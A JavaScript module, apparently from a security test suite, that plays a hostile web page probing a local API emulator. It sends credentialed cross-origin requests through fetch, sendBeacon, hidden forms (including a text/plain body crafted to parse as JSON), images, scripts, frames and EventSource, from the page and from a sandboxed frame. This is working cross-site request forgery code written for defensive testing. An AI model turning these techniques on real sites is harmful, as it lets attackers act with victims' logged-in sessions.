/**
 * What a hostile page does: every call in every way that a browser has. It runs in the browser, in
 * a page of the attacker's and in a sandboxed frame of it, whose origin is `null`.
 *
 * A way answers with what the page got to see, or null if nothing.
 */

// The page as it was loaded: its frame gets a copy, as the attacker's server may be gone by then.
const copy = `<!doctype html>${document.documentElement.outerHTML}</body></html>`

const patience_ms = 10_000
const at_once = 16

/** What can be read of an answer; of an opaque one nothing can. */
const read = (call) =>
  call.then(
    async (answer) => {
      const text = await answer.text()
      return answer.status === 0 && text === '' ? null : { status: answer.status, text }
    },
    () => null,
  )

/** An element that fetches by itself, and what shows once it is loaded. */
const element = (name, address, url, shown, more = {}) =>
  new Promise((resolve) => {
    const made = Object.assign(document.createElement(name), more)
    const end = (seen) => {
      made.remove()
      resolve(seen)
    }
    setTimeout(end, patience_ms, null)
    made.onload = () => end(shown(made))
    made.onerror = () => end(null)
    made[address] = url
    document.body.append(made)
  })

/** The text of a frame, if the page may see into it. A new frame is blank until it has loaded something. */
function textIn(frame) {
  try {
    if (frame.contentDocument?.URL === 'about:blank') return null
    const text = frame.contentDocument?.body?.textContent
    return text === undefined || text === null ? null : { text }
  } catch {
    return null
  }
}

const idle = []
let frames = 0

/** Gives a hidden frame something to load. Frames are used again, as new ones take their time. */
const inFrame = (load) =>
  new Promise((resolve) => {
    const frame = idle.pop() ?? document.createElement('iframe')
    if (!frame.isConnected) {
      Object.assign(frame, { name: `hidden${++frames}`, hidden: true })
      document.body.append(frame)
    }
    const end = () => {
      clearTimeout(late)
      frame.onload = null
      idle.push(frame)
      resolve(textIn(frame))
    }
    const late = setTimeout(end, patience_ms)
    frame.onload = end
    load(frame)
  })

/** A form that is sent into a hidden frame. Its text/plain can spell JSON: `{…,"x":"` = `"}`. */
const form =
  (enctype) =>
  (url, { body }) =>
    inFrame((frame) => {
      const details = { action: url, method: 'POST', enctype, target: frame.name }
      const sent = Object.assign(document.createElement('form'), details)
      const open = body.slice(0, -1)
      const name = `${open}${open.length > 1 ? ',' : ''}"x":"`
      sent.append(Object.assign(document.createElement('input'), { name, value: '"}' }))
      document.body.append(sent)
      sent.submit()
      sent.remove()
    })

const isRead = ({ method }) => method === 'GET' || method === 'HEAD'
const bodyOf = (attempt, body) => (isRead(attempt) ? {} : { body })

/** What a browser sends without asking first: GET and POST, no header of the page's own. */
const simple = (attempt, more = {}) => ({
  method: isRead(attempt) ? 'GET' : 'POST',
  credentials: 'include',
  ...bodyOf(attempt, attempt.body),
  ...more,
})

/** By which calls can be made of every method. */
const waysToCall = {
  /** As the API wants it; for another origin the browser asks first. */
  'fetch cors': (url, attempt) =>
    read(
      fetch(url, {
        method: attempt.method,
        credentials: 'include',
        headers: { 'content-type': 'application/json', 'x-auth-token': attempt.token },
        ...bodyOf(attempt, attempt.body),
      }),
    ),
  'fetch cors, simple': (url, attempt) => read(fetch(url, simple(attempt))),
  'fetch no-cors': (url, attempt) => read(fetch(url, simple(attempt, { mode: 'no-cors' }))),
  /** Without a type: IAM takes such a body as JSON. */
  'fetch no-cors, untyped': (url, attempt) => {
    const body = bodyOf(attempt, new Blob([attempt.body]))
    return read(fetch(url, simple(attempt, { ...body, mode: 'no-cors' })))
  },
}

/** By which only POST can be. */
const waysToPost = {
  beacon: async (url, { body }) => {
    navigator.sendBeacon(url, body)
    return null
  },
  'form urlencoded': form('application/x-www-form-urlencoded'),
  'form text/plain': form('text/plain'),
  'form multipart': form('multipart/form-data'),
}

/** By which only GET can be. */
const waysToGet = {
  image: (url) =>
    element('img', 'src', url, ({ naturalWidth }) => ({ text: `${naturalWidth} px` })),
  script: (url) => element('script', 'src', url, () => ({ text: 'it ran' })),
  stylesheet: (url) =>
    element('link', 'href', url, () => ({ text: 'it applied' }), { rel: 'stylesheet' }),
  frame: (url) =>
    inFrame((frame) => {
      frame.src = url
    }),
  events: (url) =>
    new Promise((resolve) => {
      const source = new EventSource(url, { withCredentials: true })
      const end = (seen) => {
        source.close()
        resolve(seen)
      }
      setTimeout(end, patience_ms, null)
      source.onopen = () => end({ text: 'it opened' })
      source.onerror = () => end(null)
    }),
}

/**
 * Tries everything.
 *
 * @param target the emulator's origin.
 * @param attempts `{n, method, path, body, token}`.
 * @param scene a name, by which the emulator's log tells the calls apart.
 * @returns `{way, n, seen}` for each.
 */
async function attack(target, attempts, scene) {
  const calls = attempts.flatMap((attempt) => {
    const ways = { ...waysToCall, ...(isRead(attempt) ? waysToGet : waysToPost) }
    return Object.entries(ways).map(([way, go]) => ({ way, go, attempt }))
  })
  const outcomes = []
  const work = async () => {
    for (let call = calls.shift(); call; call = calls.shift()) {
      const { way, go, attempt } = call
      // A name whose value the log shows.
      const tag = new URLSearchParams({ hostname: ['attack', scene, way, attempt.n].join('~') })
      const seen = await go(`${target}${attempt.path}?${tag}`, attempt)
      outcomes.push({ way, n: attempt.n, seen })
    }
  }
  await Promise.all(Array.from({ length: at_once }, work))
  return outcomes
}

/** The same, out of a sandboxed frame. */
const attackFromSandbox = (...task) =>
  new Promise((resolve) => {
    const frame = document.createElement('iframe')
    frame.sandbox = 'allow-scripts allow-forms'
    frame.srcdoc = copy
    window.addEventListener('message', ({ source, data }) => {
      if (source === frame.contentWindow) resolve(data)
    })
    frame.onload = () => frame.contentWindow.postMessage(task, '*')
    document.body.append(frame)
  })

window.addEventListener('message', async ({ source, data }) => {
  if (source === window.parent && source !== window) {
    source.postMessage(await attack(...data), '*')
  }
})

Object.assign(window, { attack, attackFromSandbox })
